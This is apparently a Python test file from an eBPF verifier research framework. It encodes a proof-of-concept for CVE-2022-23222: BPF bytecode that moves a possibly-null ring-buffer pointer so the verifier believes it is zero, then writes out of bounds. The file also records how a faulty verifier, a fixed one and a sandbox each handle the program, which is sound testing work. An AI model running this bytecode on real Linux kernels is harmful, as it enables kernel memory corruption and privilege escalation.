"""CVE-2022-23222: arithmetic on a pointer that may be null."""

from __future__ import annotations

from seismo.attacks.attack import Attack, Quadrant
from seismo.attacks.listing import Specimen
from seismo.attacks.stage import contained, deceived, refused
from seismo.attacks.value_map import LOOK_UP, VALUES
from seismo.isa.map_types import MapType
from seismo.spec.types import MapSpec
from seismo.verifier.options import Fault
from seismo.verifier.rules import Rule

__all__ = ("ATTACK",)

_RING = MapSpec(name="ring", type=MapType.RINGBUF, key_size=0, value_size=0, max_entries=4096)

_PROGRAM = Specimen(
    "moved_null",
    f"""{LOOK_UP}
; more than the ring holds: null, and nobody knows
r1 = map ring
r2 = 8192
r3 = 0
call bpf_ringbuf_reserve#131
r8 = r0
r8 += 1
if r0 == 0x0 goto null
r1 = r0
r2 = 0
call bpf_ringbuf_discard#133
out:
r0 = 0
exit
null:
; r8 came of r0, which is 0: it is believed to be 0, and is 1
r8 <<= 10
r9 += r8
*(u64 *)(r9 +0) = 0
r0 = 0
exit
""",
    (VALUES, _RING),
)

ATTACK = Attack(
    name="or-null-arithmetic",
    title="a null pointer that was moved",
    cve="CVE-2022-23222",
    quadrant=Quadrant.ON_EBPF,
    story=(
        "A pointer that may be null must be compared with 0 before anything is added to it. The "
        "verifiers of Linux 5.8 to 5.16 listed the kinds of such pointers one by one, and the list "
        "had no entry for kinds that came later, such as memory reserved in a ring buffer. Where "
        "the comparison finds null, all copies are taken for the number 0, also the one to which "
        "1 had been added. A number believed to be 0 and being 1 is all that it takes."
    ),
    programs=(_PROGRAM,),
    acts=(
        deceived(
            _PROGRAM,
            Fault.OR_NULL_ARITHMETIC,
            bytes(8),
            24,
            "with the fault, the program is accepted, and writes 1 KiB further",
        ),
        refused(_PROGRAM, Rule.NULL, 15, "with the fault mended, the addition is refused"),
        contained(_PROGRAM, bytes(8), 24, "the sandbox stops the write"),
    ),
)
